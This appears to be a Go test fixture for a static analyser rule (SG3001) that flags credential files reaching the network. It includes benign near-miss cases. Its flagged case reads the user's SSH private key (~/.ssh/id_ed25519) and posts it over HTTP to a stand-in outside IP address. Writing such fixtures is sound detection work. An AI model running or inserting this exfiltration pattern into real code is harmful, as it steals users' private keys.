package exfil

import (
	"bytes"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
)

func steal() []byte {
	home, _ := os.UserHomeDir()
	b, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_ed25519"))
	return b
}

func upload(data []byte) {
	http.Post("https://203.0.113.7/u", "application/octet-stream", bytes.NewReader(data)) // want `SG3001: a credential file reaches the network via http.Post`
}

func nearMiss() {
	// An API token sent to the API's own constant host.
	req, _ := http.NewRequest("GET", "https://api.github.com/user", nil)
	req.Header.Set("Authorization", "Bearer "+os.Getenv("GITHUB_TOKEN"))
	http.DefaultClient.Do(req)
	// A non-secret file and a non-secret variable.
	notes, _ := os.ReadFile("notes.txt")
	http.Post("https://paste.example.com/api", "text/plain", bytes.NewReader(append(notes, os.Getenv("HOME")...)))
	// Network data that is only printed.
	resp, _ := http.Get("https://api.example.com/status")
	fmt.Println(resp.Status)
}
